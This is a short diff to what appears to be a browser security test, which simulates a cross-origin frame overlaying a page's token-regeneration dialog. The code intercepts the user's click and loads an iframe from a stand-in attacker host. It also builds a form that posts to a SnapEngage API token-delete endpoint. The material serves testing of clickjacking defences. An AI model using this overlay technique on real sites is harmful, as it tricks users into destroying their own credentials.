@@ -6,6 +6,7 @@ export default wishes('A frame of another origin lies over the page’s dialog, 
       const swap = (event: Event) => {
         if (!(event.target as Element).closest('[data-opens=regenerate-dialog]')) return;
         event.stopImmediatePropagation();
+        sessionStorage.setItem('sprung', '1');
         const frame = Object.assign(document.createElement('iframe'), { src: 'https://attacker.snapengage.com/' });
         const post = '<form method=post target=_top action="https://www.snapengage.com/app/account/api/token/delete">';
         const buttons = '<button type=button>Cancel</button><button>Regenerate</button></form>';
